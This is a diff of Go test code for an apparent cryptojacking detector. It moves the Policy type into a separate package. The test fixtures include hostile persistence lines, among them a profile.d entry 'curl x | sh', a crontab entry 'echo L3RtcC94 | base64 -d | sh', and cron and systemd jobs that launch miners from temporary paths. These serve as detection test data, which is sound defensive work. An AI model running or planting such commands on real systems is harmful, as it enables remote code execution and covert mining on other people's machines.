@@ -5,6 +5,7 @@ import (
 	"testing"
 
 	"github.com/cryptojack-exporter/cryptojack_exporter/internal/model"
+	"github.com/cryptojack-exporter/cryptojack_exporter/internal/policy"
 )
 
 func entries(list ...model.PersistenceEntry) *model.PersistenceSnapshot {
@@ -21,7 +22,7 @@ func TestCronKeepsAMiner(t *testing.T) {
 		model.PersistenceEntry{Kind: model.PersistenceCrontab, Path: "/etc/cron.d/x", Line: 3, User: "root", Command: "/tmp/x", Programs: []string{"/tmp/x"}, Reason: model.PersistenceTempPath, Evidence: "/tmp/x"},
 		model.PersistenceEntry{Kind: model.PersistenceCrontab, Path: "/etc/cron.d/backup", Line: 1, Command: "/opt/backup/run", Programs: []string{"/opt/backup/run"}},
 	)
-	findings := evaluate(t, s, Policy{})
+	findings := evaluate(t, s, policy.Policy{})
 	if len(findings) != 2 || findings[0].Severity != model.Critical || findings[1].Severity != model.Critical {
 		t.Fatalf("%+v", findings)
 	}
@@ -48,7 +49,7 @@ func TestUnitKeepsAMiner(t *testing.T) {
 	s.Persistence = entries(model.PersistenceEntry{
 		Kind: model.PersistenceSystemdService, Path: "/lib/systemd/system/bot.service", Unit: "bot.service", Command: "/etc/data/kinsing", Programs: []string{"/etc/data/kinsing"},
 	})
-	findings := evaluate(t, s, Policy{})
+	findings := evaluate(t, s, policy.Policy{})
 	if len(findings) != 2 || findings[0].Severity != model.Critical || findings[1].Severity != model.Critical {
 		t.Fatalf("%+v", findings)
 	}
@@ -66,7 +67,7 @@ func TestEntriesAlone(t *testing.T) {
 	} {
 		s := snapshotOf(process(10, nil))
 		s.Persistence = entries(model.PersistenceEntry{Kind: model.PersistenceProfile, Path: "/etc/profile.d/x.sh", Line: 2, Command: "curl x | sh", Reason: reason})
-		findings := evaluate(t, s, Policy{})
+		findings := evaluate(t, s, policy.Policy{})
 		if want == "" {
 			if len(findings) != 0 {
 				t.Errorf("%+v", findings)
@@ -76,7 +77,7 @@ func TestEntriesAlone(t *testing.T) {
 		if len(findings) != 1 || findings[0].Severity != want || findings[0].Rule != RulePersistenceEntry || findings[0].Technique != "T1546.004" {
 			t.Errorf("%s: %+v", reason, findings)
 		}
-		allowed := evaluate(t, s, Policy{Allow: []Allow{{Path: "/etc/profile.d/*"}}})
+		allowed := evaluate(t, s, policy.Policy{Allow: []policy.Allow{{Path: "/etc/profile.d/*"}}})
 		if allowed[0].Severity != model.Info || allowed[0].Exemption != model.ExemptAllowList {
 			t.Errorf("allowed: %+v", allowed[0])
 		}
@@ -88,7 +89,7 @@ func TestExplain(t *testing.T) {
 	t.Parallel()
 	s := snapshotOf(process(10, all(inTemp("/tmp/kdevtmpfsi"), busy)), process(11, nil))
 	for pid, want := range map[int]model.Severity{10: model.Critical, 11: ""} {
-		e, ok := Explain(s, Policy{}, nil, pid)
+		e, ok := Explain(s, policy.Policy{}, nil, pid)
 		if !ok || e.Severity != want {
 			t.Fatalf("pid %d: %q, %v", pid, e.Severity, ok)
 		}
@@ -114,7 +115,7 @@ func TestExplain(t *testing.T) {
 			}
 		}
 	}
-	if _, ok := Explain(s, Policy{}, nil, 99); ok {
+	if _, ok := Explain(s, policy.Policy{}, nil, 99); ok {
 		t.Error("pid 99 does not exist")
 	}
 }
@@ -126,7 +127,7 @@ func TestExemptionsAreCounted(t *testing.T) {
 	tool := process(900, at(model.OriginLocal, "/usr/local/go/bin/go"))
 	s := snapshotOf(process(10, all(inTemp("/tmp/go-build1/x.test"), childOf(tool, model.OriginLocal))), tool)
 	for range 3 {
-		got := tracker.Update(s, evaluate(t, s, Policy{}))
+		got := tracker.Update(s, evaluate(t, s, policy.Policy{}))
 		if got.Exempted[model.ExemptBuildTool] != 1 || got.Exempted[model.ExemptAllowList] != 0 || len(got.Exempted) != len(model.Exemptions()) {
 			t.Errorf("%v", got.Exempted)
 		}
@@ -141,7 +142,7 @@ func TestAnEncodedEntryStartsAMiner(t *testing.T) {
 		Kind: model.PersistenceUserCrontab, Path: "/var/spool/cron/crontabs/eve", Line: 2, Owner: "eve", Command: "echo L3RtcC94 | base64 -d | sh",
 		Programs: []string{"/tmp/x"}, Reason: model.PersistenceDecodeRun, Evidence: "echo L3RtcC94 | base64 -d | sh", Decoded: "/tmp/x",
 	})
-	for _, f := range evaluate(t, s, Policy{}) {
+	for _, f := range evaluate(t, s, policy.Policy{}) {
 		if f.Severity != model.Critical {
 			t.Errorf("%+v", f)
 		}
@@ -159,23 +160,23 @@ func TestAnEncodedEntryStartsAMiner(t *testing.T) {
 func TestEntriesAreJudgedByTheListOfNow(t *testing.T) {
 	t.Parallel()
 	hash := strings.Repeat("ab", 32)
-	newList := Policy{Hashes: map[string]bool{hash: true}}
+	newList := policy.Policy{Hashes: map[string]bool{hash: true}}
 	lies := &model.FileSnapshot{Files: []model.File{
 		{Path: "/var/lib/misc/job", Reason: model.FileELF, SHA256: hash}, {Path: "/opt/other", Container: "c", SHA256: hash},
 	}}
 	job := model.PersistenceEntry{Kind: model.PersistenceCrontab, Path: "/etc/cron.d/job", Line: 1, Command: "/var/lib/misc/job", Programs: []string{"/var/lib/misc/job"}}
 	other := model.PersistenceEntry{Kind: model.PersistenceCrontab, Path: "/etc/cron.d/other", Line: 1, Command: "/opt/other", Programs: []string{"/opt/other"}}
-	entriesOf := func(policy Policy, processes ...model.Process) (found []model.Finding) {
+	entriesOf := func(settings policy.Policy, processes ...model.Process) (found []model.Finding) {
 		s := snapshotOf(processes...)
 		s.Files, s.Persistence = lies, entries(job, other)
-		for _, f := range evaluate(t, s, policy) {
+		for _, f := range evaluate(t, s, settings) {
 			if f.Persistence != nil {
 				found = append(found, f)
 			}
 		}
 		return found
 	}
-	if found := entriesOf(Policy{}); len(found) > 0 {
+	if found := entriesOf(policy.Policy{}); len(found) > 0 {
 		t.Errorf("before: %+v", found)
 	}
 	found := entriesOf(newList)
